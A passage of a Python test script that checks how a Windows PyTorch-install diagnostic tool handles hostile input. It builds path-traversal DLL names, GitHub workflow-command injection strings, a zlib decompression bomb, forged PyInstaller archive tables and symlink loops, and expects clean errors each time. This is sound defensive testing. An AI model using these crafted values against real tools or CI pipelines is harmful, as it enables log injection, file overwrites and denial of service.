        write(t, "m.yml", "schema: 1\nrows:\n  - id: h1\n    torch: \">=2.4.0,<2.4.1\"\n    python: [\"3.11\"]\n    status: inferred\n    %s\n" % body)
        case(S, what, base + ["--matrix", os.path.join(t, "m.yml")], all_of(rc_in((1, 2)), gh_clean))
    for what, body in [
        ("a vendor DLL name with a path", "  - {vendor: amd, dll: \"..\\\\..\\\\x.dll\", source: driver}"),
        ("a vendor DLL name with a workflow command", "  - {vendor: amd, dll: \"x::error::y.dll\", source: driver}"),
    ]:
        write(t, "m.yml", "schema: 1\nvendor_dlls:\n" + body + "\n")
        case(S, what, base + ["--matrix", os.path.join(t, "m.yml")], all_of(rc_in((1, 2)), gh_clean))


def s_adapters():
    S = "display adapters"
    cls = "SYSTEM\\CurrentControlSet\\Control\\Class\\{4d36e968-e325-11ce-bfc1-08002be10318}\\%04d"
    for what, vals in [
        ("AMD with a garbage DriverVersion", [("ProviderName", "Advanced Micro Devices, Inc."), ("DriverDesc", "AMD Radeon"), ("DriverVersion", "31.0.-1.x")]),
        ("Intel with a 20-digit DriverVersion", [("ProviderName", "Intel Corporation"), ("DriverDesc", "Intel Arc"), ("DriverVersion", "99999999999999999999.0.0.0")]),
        ("AMD whose description carries a workflow command", [("ProviderName", "Advanced Micro Devices, Inc."), ("DriverDesc", "x\n::error::y%0A<b>h</b>"), ("DriverVersion", "31.0.24027.1012")]),
    ]:
        t = tree()
        write(t, "registry.reg", reg_text([(cls % 0, vals)]))
        case(S, what, ["check", "--root", t, "--python", PY, "--registry", os.path.join(t, "registry.reg"), "--format", "github"],
             all_of(rc_in((1,)), gh_clean, no_raw("<b>h</b>")))
    t = tree()
    write(t, "registry.reg", reg_text([(cls % i, [("ProviderName", "Intel Corporation"), ("DriverDesc", "i%d" % i), ("DriverVersion", "31.0.101.%d" % i)]) for i in range(5000)]))
    case(S, "5,000 Intel adapters: bounded", ["check", "--root", t, "--python", PY, "--registry", os.path.join(t, "registry.reg")], rc_is(1), timeout=60)


def s_app_host():
    S = "--app/--host"
    t = tree()
    for what, args, expect in [
        ("--app a missing path", ["--app", "C:\\nope.exe"], rc_is(2)),
        ("--app a text file", ["--app", "C:\\Python311\\Lib\\site-packages\\torch-2.4.0+cpu.dist-info\\METADATA"], rc_is(2)),
        ("--app an empty folder", ["--app", "C:\\Windows\\SysWOW64"], rc_is(2)),
        ("--app python.exe (no archive)", ["--app", PY], rc_is(2)),
        ("--host a missing exe", ["--host", "C:\\nope.exe", "--site-packages", "C:\\Python311\\Lib\\site-packages"], rc_is(2)),
        ("--host a folder", ["--host", "C:\\Python311", "--site-packages", "C:\\Python311\\Lib\\site-packages"], rc_is(2)),
        ("--host a DLL", ["--host", "C:\\Python311\\python311.dll", "--site-packages", "C:\\Python311\\Lib\\site-packages"], rc_in((1, 2))),
        ("--host without --torch", ["--host", PY], rc_is(2)),
        ("--default-dll-dirs garbage", ["--host", PY, "--site-packages", "C:\\Python311\\Lib\\site-packages", "--default-dll-dirs", "0xzz"], rc_is(2)),
        ("--default-dll-dirs too wide", ["--host", PY, "--site-packages", "C:\\Python311\\Lib\\site-packages", "--default-dll-dirs", "0xffffffffffff"], rc_is(2)),
        ("--default-dll-dirs negative", ["--host", PY, "--site-packages", "C:\\Python311\\Lib\\site-packages", "--default-dll-dirs", "-1"], rc_is(2)),
    ]:
        case(S, what, ["check", "--root", t] + args, expect)
    th = tree()
    write(th, "Host/host.exe", open(os.path.join(BASE, "Python311/python.exe"), "rb").read())
    for fmt in ("text", "json"):
        case(S, "--host: a program that embeds Python gets no freezer's fix (no PyInstaller, no cx_Freeze) (--format %s)" % fmt,
             ["check", "--root", th, "--host", "C:\\Host\\host.exe", "--site-packages", "C:\\Python311\\Lib\\site-packages",
              "--format", fmt], all_of(rc_is(1, "fbgemm"), no_raw("PyInstaller", "cx_Freeze", "--collect-binaries")))
    # a onefile-looking exe: python.exe with a PyInstaller cookie and a lying TOC appended
    import struct, zlib
    exe = open(os.path.join(BASE, "Python311/python.exe"), "rb").read()
    def onefile(toc_entries, extra=b"", pylib=b"python311.dll"):
        body = extra
        toc = b""
        for name, pos, clen, ulen, flag, typ in toc_entries:
            nm = name + b"\0"
            nm += b"\0" * ((-(18 + len(nm))) % 16)
            toc += struct.pack("!iIIIBc", 18 + len(nm), pos, clen, ulen, flag, typ) + nm
        pkg_len = len(body) + len(toc) + 88
        cookie = b"MEI\014\013\012\013\016" + struct.pack("!iiii", pkg_len, len(body), len(toc), 311) + pylib.ljust(64, b"\0")
        return exe + body + toc + cookie
    bomb = zlib.compress(b"\0" * (64 << 20), 9)
    for what, data in [
        ("a TOC entry climbing out (..\\..\\x.dll)", onefile([(b"..\\..\\..\\x.dll", 0, 4, 4, 0, b"b")], b"MZ\0\0")),
        ("a TOC entry named with a workflow command", onefile([(b"::error::x%0A.dll", 0, 4, 4, 0, b"b")], b"MZ\0\0")),
        ("a TOC entry past the end", onefile([(b"torch/lib/c10.dll", 1 << 30, 1 << 20, 1 << 20, 0, b"b")])),
        ("a 64 MiB zlib bomb as torch_cpu.dll", onefile([(b"torch/lib/torch_cpu.dll", 0, len(bomb), 64 << 20, 1, b"b")], bomb)),
        ("a bomb whose uncompressed size lies (4 bytes)", onefile([(b"torch/lib/torch_cpu.dll", 0, len(bomb), 4, 1, b"b")], bomb)),
        ("100,000 TOC entries", onefile([(b"f%d.dll" % i, 0, 0, 0, 0, b"b") for i in range(100000)])),
        ("a pylib name with a path and a newline", onefile([], b"", b"..\\..\\x\n::error::y.dll")),
        ("a TOC length wrapping the archive", exe + b"MEI\014\013\012\013\016" + struct.pack("!iiii", 88, 0, -100, 311) + b"python311.dll".ljust(64, b"\0")),
    ]:
        write(t, "App/app.exe", data)
        case(S, "onefile: " + what, ["check", "--root", t, "--app", "C:\\App\\app.exe", "--format", "github"],
             all_of(rc_in((1, 2)), gh_clean), timeout=60)
    t3 = tree()
    os.makedirs(os.path.join(t3, "App/_internal"))
    write(t3, "App/app.exe", exe)
    os.symlink("..", os.path.join(t3, "App/_internal/loop"))
    os.symlink("../../Python311/Lib/site-packages/torch", os.path.join(t3, "App/_internal/torch"))
    case(S, "an exe without an archive beside _internal holding a link loop and a link to another torch: a clear error",
         ["check", "--root", t3, "--app", "C:\\App\\app.exe"], rc_is(2, "no PyInstaller archive"), timeout=60)
    t4 = tree()
    os.makedirs(os.path.join(t4, "App/lib"))
    write(t4, "App/app.exe", exe)
    os.symlink("../../Python311/Lib/site-packages/torch", os.path.join(t4, "App/lib/torch"))
    os.symlink("..", os.path.join(t4, "App/lib/loop"))
    case(S, "a folder of an exe without an archive and lib\\ with a link loop: a clear error", ["check", "--root", t4, "--app", "C:\\App"], rc_is(2), timeout=60)


for f in (s_py_ini, s_pep514, s_pyvenv, s_pth, s_env, s_memory, s_paging, s_conda, s_profiles, s_matrix_rows, s_adapters, s_app_host):
    f()
print("# hostile4: %d cases" % count)
sys.exit(failed)
